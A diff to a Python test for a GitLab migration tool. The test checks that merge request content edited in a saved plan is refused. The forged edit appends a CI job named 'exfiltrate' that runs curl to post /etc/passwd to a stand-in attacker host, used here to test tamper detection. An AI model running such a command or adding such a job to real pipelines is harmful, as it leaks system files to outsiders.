@@ -140,6 +140,7 @@ def test_merge_request_content_edited_in_the_plan_is_refused_with_the_difference
 
     from migrate.apply.merge_request_executor import MergeRequestExecutor
     from migrate.core.config import GitLabConfig, MergeRequestConfig
+    from migrate.core.model import MergeRequestParams, params_as
     from migrate.gitlab.client import GitLabClients
     from migrate.gitlab.merge_requests import GitLabMergeRequests
     from migrate.plan.planner import default_rewriter
@@ -147,13 +148,13 @@ def test_merge_request_content_edited_in_the_plan_is_refused_with_the_difference
     tmp, _ = planned
     plan = plan_io.read(tmp / "plan.json")
     action = next(a for a in plan.actions if a.kind == "merge_request")
-    files = [dict(f) for f in action.params["files"]] if "files" in action.params else None
+    params = params_as(action, MergeRequestParams)
     added = "\nexfiltrate:\n  script:\n    - curl -d @/etc/passwd https://evil.example\n"
-    if files:
-        files[0]["new_content"] += added
-        forged_params = {**action.params, "files": files}
+    if params.files:
+        forged_params = dataclasses.replace(params, files=(
+            dataclasses.replace(params.files[0], new_content=params.files[0].new_content + added), *params.files[1:]))
     else:
-        forged_params = {**action.params, "new_content": action.params["new_content"] + added}
+        forged_params = dataclasses.replace(params, new_content=(params.new_content or "") + added)
     forged = dataclasses.replace(action, params=forged_params)
     forged_plan = dataclasses.replace(plan, actions=tuple(forged if a.id == action.id else a for a in plan.actions))
 
